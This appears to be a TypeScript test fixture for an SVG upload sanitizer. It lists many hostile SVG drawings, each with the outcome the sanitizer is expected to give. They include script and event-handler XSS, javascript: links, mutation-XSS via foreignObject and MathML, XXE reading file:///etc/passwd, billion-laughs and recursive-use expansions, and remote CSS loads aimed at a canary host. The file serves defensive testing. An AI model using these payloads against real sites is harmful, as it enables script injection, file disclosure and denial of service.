/** Sets this global, or asks for that address: then something of an upload ran. */
export const CANARY = "__drawing_ran";
export const CANARY_HOST = "canary.invalid";

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const RUN = `top.${CANARY}=self.${CANARY}=1;alert(1)`;
const AWAY = `http://${CANARY_HOST}/x`;
const svg = (inside: string, attributes = "") =>
  `<svg ${NS} viewBox="0 0 100 100" ${attributes}><rect width="90" height="90" fill="teal"/>${inside}</svg>`;
const b64 = (text: string) => Buffer.from(text).toString("base64");
const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const INNER = `<svg ${NS} onload="${RUN}"><script>${RUN}</script></svg>`;

/** `refused`: answered with a reason; `shown`: drawn without what is hostile; `any`: either, as long as nothing runs. */
export interface HostileSvg {
  readonly name: string;
  readonly text: string;
  readonly ends: "refused" | "shown" | "any";
}

const harmless = (name: string, inside: string, attributes?: string): HostileSvg => ({
  name,
  text: svg(inside, attributes),
  ends: "shown",
});
const refused = (name: string, text: string): HostileSvg => ({ name, text, ends: "refused" });
const any = (name: string, text: string): HostileSvg => ({ name, text, ends: "any" });

const SCRIPTS = [
  harmless("script", `<script>${RUN}</script>`),
  harmless("script with a type", `<script type="text/javascript">${RUN}</script>`),
  harmless("script in CDATA", `<script><![CDATA[${RUN}]]></script>`),
  harmless("script from elsewhere, href", `<script href="${AWAY}.js"/>`),
  harmless("script from elsewhere, xlink", `<script xlink:href="${AWAY}.js"/>`),
  harmless("script from data", `<script href="data:text/javascript,${encodeURIComponent(RUN)}"/>`),
  harmless("script of XHTML", `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`),
  harmless("script under another prefix", `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`),
  harmless("script in defs", `<defs><script>${RUN}</script></defs>`),
  harmless("script in a symbol that is used", `<symbol id="s"><script>${RUN}</script></symbol><use href="#s"/>`),
  harmless("script in text", `<text><script>${RUN}</script>hello</text>`),
  harmless("script in title", `<title><script>${RUN}</script></title>`),
  harmless("script in a script", `<script><script>${RUN}</script></script>`),
  harmless("script written with references", `<script>&#97;&#108;&#101;&#114;&#116;(1)</script>`),
  harmless("handler element", `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`),
  harmless("listener element", `<listener event="load" handler="#x"/>`),
];

const HANDLERS = [
  harmless("onload of the root", "", `onload="${RUN}"`),
  ...[
    "onclick",
    "onmouseover",
    "onfocusin",
    "onbegin",
    "onend",
    "onrepeat",
    "onerror",
    "onanimationstart",
    "ontoggle",
  ].map((name) => harmless(name, `<rect width="50" height="50" tabindex="0" autofocus="" ${name}="${RUN}"/>`)),
  harmless("handler with references", `<rect width="5" height="5" onclick="&#x61;lert(1)"/>`),
  harmless("onerror of an image", `<image href="x" onerror="${RUN}"/>`),
  harmless(
    "onload of an image",
    `<image href="data:image/png;base64,AAAA" onload="${RUN}"/>`.replace("AAAA", tinyPng()),
  ),
];

const LINKS = [
  harmless("javascript link", `<a href="javascript:${RUN}"><text y="20">click</text></a>`),
  harmless("javascript link, xlink", `<a xlink:href="javascript:${RUN}"><text y="20">click</text></a>`),
  harmless("javascript link with a tab", `<a href="java&#9;script:${RUN}"><text>x</text></a>`),
  harmless("javascript link in capitals", `<a href=" JaVaScRiPt:${RUN}"><text>x</text></a>`),
  harmless("link to data:text/html", `<a href="data:text/html,&lt;script>${RUN}&lt;/script>"><text>x</text></a>`),
  harmless("link elsewhere", `<a href="${AWAY}" target="_top"><text>x</text></a>`),
  harmless("base", `<base xmlns="http://www.w3.org/1999/xhtml" href="${AWAY}"/>`),
  harmless("xml:base", "<a href='x'><text>x</text></a>", `xml:base="${AWAY}"`),
  harmless(
    "another prefix for xlink",
    `<a xmlns:q="http://www.w3.org/1999/xlink" q:href="javascript:${RUN}"><text>x</text></a>`,
  ),
  harmless("meta refresh", `<meta ${XHTML} http-equiv="refresh" content="0;url=${AWAY}"/>`),
];

const FOREIGN = [
  harmless("foreignObject with a body", `<foreignObject><body ${XHTML} onload="${RUN}"/></foreignObject>`),
  harmless("foreignObject with a frame", `<foreignObject><iframe ${XHTML} src="javascript:${RUN}"/></foreignObject>`),
  harmless(
    "foreignObject with srcdoc",
    `<foreignObject><iframe ${XHTML} srcdoc="&lt;script>${RUN}&lt;/script>"/></foreignObject>`,
  ),
  harmless(
    "foreignObject in a switch",
    `<switch><foreignObject><img ${XHTML} src="x" onerror="${RUN}"/></foreignObject><g/></switch>`,
  ),
  harmless("iframe without a foreignObject", `<iframe ${XHTML} src="javascript:${RUN}"/>`),
  harmless("object", `<object ${XHTML} data="data:text/html,x"/>`),
  harmless("embed", `<embed ${XHTML} src="${AWAY}"/>`),
  harmless("video", `<video ${XHTML} src="${AWAY}" onerror="${RUN}" autoplay=""/>`),
  harmless("audio of SVG", `<audio href="${AWAY}"/>`),
  harmless(
    "MathML link",
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${RUN}"><mtext>x</mtext></math>`,
  ),
  harmless(
    "mutation: style in MathML",
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><style><img src="x" onerror="${RUN}"/></style></math>`,
  ),
  refused("mutation: comment that ends early", svg(`<!-- a -- b --><img ${XHTML} src="x" onerror="${RUN}"/>`)),
  harmless("mutation: comment in an attribute", `<g id="--&gt;&lt;img src=x onerror=${RUN}>"/>`),
  harmless(
    "mutation: noscript",
    `<noscript ${XHTML}><p title="&lt;/noscript>&lt;img src=x onerror=${RUN}>"/></noscript>`,
  ),
  harmless("mutation: desc", `<desc><p ${XHTML}><style/><img src="x" onerror="${RUN}"/></p></desc>`),
];

const ANIMATIONS = [
  harmless(
    "animate sets href",
    `<a><animate attributeName="href" to="javascript:${RUN}" begin="0s" fill="freeze"/><text>x</text></a>`,
  ),
  harmless("set sets href", `<a id="a"><set attributeName="xlink:href" to="javascript:${RUN}"/><text>x</text></a>`),
  harmless("set sets a handler", `<rect width="5" height="5"><set attributeName="onmouseover" to="${RUN}"/></rect>`),
  harmless("animate values", `<a><animate attributeName="href" values="javascript:${RUN}"/><text>x</text></a>`),
  harmless("animateMotion from elsewhere", `<animateMotion><mpath href="${AWAY}#p"/></animateMotion>`),
  harmless("animateTransform with onbegin", `<animateTransform attributeName="transform" onbegin="${RUN}"/>`),
];

const USES = [
  harmless("use from elsewhere", `<use href="${AWAY}#a"/>`),
  harmless("use from data", `<use href="data:image/svg+xml;base64,${b64(INNER)}#x"/>`),
  harmless("use of a javascript address", `<use xlink:href="javascript:${RUN}"/>`),
  refused("use of itself", svg('<g id="a"><use href="#a"/></g>')),
  refused("uses in a circle", svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')),
  refused("a billion copies", svg(billion((id) => `<use href="#${id}"/>`.repeat(10)))),
  refused(
    "a billion patterns",
    svg(billion((id) => `<rect width="9" height="9" fill="url(#${id})"/>`.repeat(10), "pattern")),
  ),
  refused("a pattern of itself", svg('<pattern id="p"><rect fill="url(#p)" width="1" height="1"/></pattern>')),
  refused("a mask of itself", svg('<mask id="m"><rect style="mask:url(#m)" width="1" height="1"/></mask>')),
];

const STYLES = [
  harmless("style from elsewhere", `<style>@import url(${AWAY}.css);</style>`),
  harmless("style from elsewhere, in words", `<style>@import "${AWAY}.css";</style>`),
  harmless("background from elsewhere", `<style>rect{background:url(${AWAY});fill:url(${AWAY}#p)}</style>`),
  harmless(
    "font from elsewhere",
    `<style>@font-face{font-family:x;src:url(${AWAY}.woff)}text{font-family:x}</style><text>x</text>`,
  ),
  harmless("escaped url", `<rect width="5" height="5" style="fill:u\\72l(${AWAY}#p)"/>`),
  harmless("url behind a comment", `<rect width="5" height="5" style="fill:u/**/rl(${AWAY}#p)"/>`),
  harmless("url with references", `<rect width="5" height="5" style="fill:url(&#104;ttp://${CANARY_HOST}/#p)"/>`),
  harmless("expression", `<rect width="5" height="5" style="width:expression(${RUN})"/>`),
  harmless(
    "behaviour and binding",
    `<rect width="5" height="5" style="behavior:url(x.htc);-moz-binding:url(${AWAY})"/>`,
  ),
  harmless(
    "paint from elsewhere",
    `<rect width="5" height="5" fill="url(${AWAY}#p)" filter="url(${AWAY}#f)" mask="url(${AWAY}#m)"/>`,
  ),
  harmless("cursor from elsewhere", `<rect width="50" height="50" style="cursor:url(${AWAY}),auto"/>`),
  harmless("image-set", `<rect width="50" height="50" style="fill:image-set('${AWAY}' 1x);mask:src('${AWAY}')"/>`),
  harmless("style that closes itself", `<style>&lt;/style>&lt;script>${RUN}&lt;/script></style>`),
  harmless("stylesheet link", `<link ${XHTML} rel="stylesheet" href="${AWAY}.css"/>`),
  harmless("custom properties", `<style>:root{--x:url(${AWAY})}rect{fill:var(--x)}</style>`),
  any("stylesheet instruction", `<?xml-stylesheet href="${AWAY}.css"?>${svg("")}`),
  any("stylesheet instruction, XSLT", `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${svg("")}`),
];

const IMAGES = [
  harmless("image from elsewhere", `<image href="${AWAY}.png" width="9" height="9"/>`),
  harmless("image from elsewhere, xlink", `<image xlink:href="//${CANARY_HOST}/x.png" width="9" height="9"/>`),
  harmless("SVG in an image", `<image href="data:image/svg+xml;base64,${b64(INNER)}" width="9" height="9"/>`),
  harmless("web page in an image", `<image href="data:text/html;base64,${b64("<script>1</script>")}"/>`),
  refused("a picture that is none", svg(`<image href="data:image/png;base64,${b64("no picture")}"/>`)),
  refused("an SVG that calls itself PNG", svg(`<image href="data:image/png;base64,${b64(INNER)}"/>`)),
  harmless(
    "feImage",
    `<filter id="f"><feImage href="${AWAY}.png"/></filter><rect filter="url(#f)" width="5" height="5"/>`,
  ),
  harmless("cursor element", `<cursor href="${AWAY}.cur"/>`),
  harmless("color-profile", `<color-profile href="${AWAY}.icc" name="x"/>`),
  harmless("textPath from elsewhere", `<text><textPath href="${AWAY}#p">x</textPath></text>`),
];

const XML = [
  refused("an entity", `<!DOCTYPE svg [<!ENTITY x "boo">]>${svg("<text>&x;</text>")}`),
  refused(
    "an entity from a file",
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`,
  ),
  refused(
    "a billion laughs",
    `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${svg("<text>&c;</text>")}`,
  ),
  refused("a parameter entity", `<!DOCTYPE svg [<!ENTITY % p SYSTEM "${AWAY}"> %p;]>${svg("")}`),
  refused("an attribute list", `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${svg("")}`),
  refused("a second DOCTYPE", `<!DOCTYPE svg><!DOCTYPE svg [<!ENTITY x "y">]>${svg("")}`),
  {
    name: "a DTD from elsewhere",
    text: `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${AWAY}.dtd">${svg("")}`,
    ends: "shown",
  },
  refused("an entity nobody declared", svg("<text>&nbsp;</text>")),
  refused("not well-formed", svg("<g><rect></g>")),
  refused("cut off", svg("<g>").slice(0, -12)),
  refused("two roots", svg("") + svg("")),
  refused("a web page called svg", `<svg><script>${RUN}</script></svg>`),
  refused("an svg of nobody's", `<svg xmlns="urn:x"><script>${RUN}</script><rect/></svg>`),
  refused("a web page", `<html ${XHTML}><body>${INNER}</body></html>`),
  refused("UTF-7", `<?xml version="1.0" encoding="UTF-7"?>+ADw-svg xmlns+AD0AIg-http://www.w3.org/2000/svg+ACI-+AD4-`),
  refused("a NUL", svg("<g id='\0'/>")),
  harmless("an instruction", `<?php echo 1 ?><?import x?>`),
  harmless(
    "XInclude",
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`,
  ),
  harmless("CDATA in text", `<text y="20"><![CDATA[<script>${RUN}</script>]]></text>`),
  harmless("ids that shadow", `<g id="__proto__"/><g id="constructor"/><g id="cookie" name="body"/>`),
];

const LIMITS = [
  refused("deep nesting", svg("<g>".repeat(5_000) + "</g>".repeat(5_000))),
  refused("too many elements", svg("<g/>".repeat(20_001))),
  refused("an attribute of 10 MB", svg(`<path d="M${"0 ".repeat(5 << 20)}"/>`)),
  refused("no size", `<svg ${NS}><rect width="1" height="1"/></svg>`),
  refused("no width", `<svg ${NS} viewBox="0 0 0 100"><rect width="1" height="1"/></svg>`),
  refused("a size beyond all", `<svg ${NS} viewBox="0 0 1e308 1e308"><rect width="1" height="1"/></svg>`),
  refused("a thread of a drawing", `<svg ${NS} viewBox="0 0 1 100000"><rect width="1" height="1"/></svg>`),
  refused("nothing to draw", `<svg ${NS} viewBox="0 0 1 1"><script>${RUN}</script></svg>`),
  harmless(
    "huge numbers",
    `<circle r="1e308" cx="-1e308"/><rect width="1e999" height="NaN"/><text font-size="1e9">x</text>`,
  ),
  harmless("endless dashes", `<path d="M0 0L1e7 1e7" stroke="red" stroke-dasharray="0.00001"/>`),
  harmless("an attribute of a megabyte", `<path d="M${"0 ".repeat(500_000)}"/>`),
  harmless("ten thousand style rules", `<style>${".a{fill:red}".repeat(10_000)}</style><g class="a"/>`),
  harmless("a selector without end", `<style>${"a ".repeat(100_000)}{fill:red}</style>`),
  any("ten thousand attributes", svg(`<g ${Array.from({ length: 10_000 }, (_, i) => `a${i}="1"`).join(" ")}/>`)),
];

/** A drawing for each trick that is known to us. */
export const HOSTILE_SVGS: readonly HostileSvg[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...FOREIGN,
  ...ANIMATIONS,
  ...USES,
  ...STYLES,
  ...IMAGES,
  ...XML,
  ...LIMITS,
] as HostileSvg[];

/** Ten levels of ten of the last. */
function billion(of: (id: string) => string, element = "g"): string {
  const levels = Array.from(
    { length: 10 },
    (_, level) => `<${element} id="l${level + 1}">${of(`l${level}`)}</${element}>`,
  );
  return `<${element} id="l0"><rect width="1" height="1"/></${element}>${levels.join("")}<use href="#l10"/>`;
}

function tinyPng(): string {
  return "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
}
